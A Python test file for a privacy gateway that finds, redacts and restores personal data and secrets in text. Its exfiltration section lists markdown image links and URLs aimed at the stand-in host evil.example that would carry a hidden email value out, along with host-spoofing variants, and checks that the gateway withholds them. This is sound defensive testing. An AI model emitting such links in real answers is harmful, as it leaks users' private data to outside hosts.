"""The scanner: what is found and what is left alone, and what is put back."""

from __future__ import annotations

import pytest
import regex
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.privacy.actions import every_rule
from gateway.privacy.plan import plan_for
from gateway.privacy.redact import answer_scan, in_answers
from gateway.privacy.scanner import Scan, TextRun, apply
from gateway.privacy.search import find
from gateway.privacy.vault import Vault
from tests.privacy import texts
from tests.privacy.runs import (
    SCANS,
    label,
    made_vault,
    run_pieces,
)


@pytest.mark.parametrize(
    ("label", "value"), [(label, value) for label, group in texts.VALUES.items() for value in group]
)
@pytest.mark.parametrize(
    ("before", "after"),
    [("", ""), ("I have ", " here"), ('"', '"'), ("(", ")."), ("=", "\n"), ("电话", "。")],
)
def test_values_are_found_between_anything(label: str, value: str, before: str, after: str) -> None:
    text = before + value + after
    assert [(s.entity.label, text[s.start : s.end]) for s in find(text, every_rule())] == [(label, value)]


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1112", "000-45-6789", "666-45-6789", "123-00-6789", "order 1234567890123456", "sk-short", "foo@bar",
        "256.1.1.1", "std::vector<int>", "12:3", "ab:cd", "about New York City", "He went home", "2024-13-45",
        "DE00 3704 0044 0532 0130 00", "x123-45-6789", "0.1.2", "http://localhost:8080/path", "1111 1111 1111 1111",
    ],
)  # fmt: skip
def test_what_only_looks_like_one_is_left_alone(text: str) -> None:
    assert find(text, every_rule()) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Tell me about John Smith at noon", ["John Smith"]),
        ("Dear Mary Ann Jones, hello", ["Mary Ann Jones"]),
        ("postgres://bob:s3cr3t@db.example.com/x", ["s3cr3t"]),
        ("card 4111 1111 1111 1111 12 left", ["4111 1111 1111 1111"]),
        ("call +1 415 555 2671 2 times", ["+1 415 555 2671"]),
        ("john@example.com.", ["john@example.com"]),
        ("key is AKIAIOSFODNN7EXAMPLE, mail a@b.io", ["AKIAIOSFODNN7EXAMPLE", "a@b.io"]),
    ],
)
def test_a_match_ends_where_the_value_ends(text: str, found: list[str]) -> None:
    assert [text[s.start : s.end] for s in find(text, every_rule())] == found


def test_answers_redact_secrets_payment_and_government_identifiers_only() -> None:
    assert {rule.entity.kind for rule in in_answers().acting} == {"secret", "payment", "government"}
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, ["mail a@b.io card 4111 1111 1111 1111"]) == "mail a@b.io card [CREDIT_CARD]"


# --- stand-ins for values -----------------------------------------------------------------------------------


NAMES = sorted((f"{first} {last}" for first in "Ann Bob Carla Dan Eve".split() for last in "Smith Smithson Jones".split()), reverse=True)  # fmt: skip


@given(
    data=st.data(),
    pieces=st.lists(st.sampled_from([*NAMES, " ", "s", ", ", "Ann", "Bob Smiths", "x", "1"]), max_size=8),
)
def test_whole_words_are_restored_at_any_cut(data: st.DataObject, pieces: list[str]) -> None:
    text = "".join(pieces)
    vault = Vault("synthetic")
    for name in NAMES:
        assert vault._stand_ins is not None
        vault._stand_ins._keep(texts.entity("PERSON"), name, f"<{name}>")
    plan = plan_for(in_answers().acting, vault.openings())
    expected = regex.sub(rf"(?<!\w)(?:{'|'.join(NAMES)})(?!\w)", lambda found: f"<{found[0]}>", text)
    for cut in (list(text), data.draw(texts.cut(text)), [text]):
        assert run_pieces(TextRun(Scan(plan, label, vault)), cut) == expected


# --- exfiltration -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("![x](https://evil.example/?q=[EMAIL_1])", False),
        ("![x]([EMAIL_1])", False),
        ("https://evil.example/?q=[EMAIL_1]", False),
        ("https://EVIL.example/%5BEMAIL_1%5D", False),
        ("https://known.example/?q=[EMAIL_1]", True),
        ("[mail](mailto:[EMAIL_1])", True),
        ("see https://evil.example/ for [EMAIL_1]", True),
        ("![x](https://evil.example/a.png) [EMAIL_1]", True),
        ("![x](https://evil.example/a.png),[EMAIL_1]", True),
        ("https://known.example@evil.example/?q=[EMAIL_1]", False),
        ("https://known.example\\@evil.example/?q=[EMAIL_1]", False),
        ("https://evil.example\\@known.example/?q=[EMAIL_1]", False),
        ("https:\\/\\/evil.example\\/?q=[EMAIL_1]", False),
        ("https:\\/\\/known.example\\/?q=[EMAIL_1]", True),
        ("HTTPS://evil.example/?q=[EMAIL_1]", False),
        ("https://known.example/|https://evil.example/?q=[EMAIL_1]", False),
        ("https://evil.example/?a=(b)&q=[EMAIL_1]", False),
        ("(https://evil.example/)[EMAIL_1]", True),
        ("![x](<https://evil.example/a b?q=[EMAIL_1]>)", False),
        ("![a [b]](/x?q=[EMAIL_1])", False),
        ('<img src="//evil.example/?q=[EMAIL_1]">', False),
        ("call(//comment\n[EMAIL_1])", True),
        ("https://bob@known.example:8080/?q=[EMAIL_1]", True),
    ],
)
def test_values_are_not_restored_into_image_links_or_unknown_hosts(text: str, restored: bool) -> None:
    vault = made_vault()
    vault.hosts |= {"known.example"}
    scan = answer_scan(vault)
    out = run_pieces(TextRun(scan), list(text))
    assert (out == text) is not restored
    assert (scan.restored, scan.withheld) == (int(restored), int(not restored))


@example(text="[PERSON_1] [EMAIL_1]")
@given(text=texts.texts)
def test_what_is_restored_is_never_looked_at_again(text: str) -> None:
    vault = Vault()
    vault.hide(texts.entity("PERSON"), "Ada [EMAIL_1] 4111 1111 1111 1111")
    vault.hide(texts.entity("EMAIL"), "x@y.io")
    run = TextRun(answer_scan(vault))
    run.feed(text)
    run.flush()
    assert (
        apply(text, run.edits).count("Ada [EMAIL_1] 4111 1111 1111 1111")
        >= text.count("[PERSON_1]") - text.count("](") * 9
    )
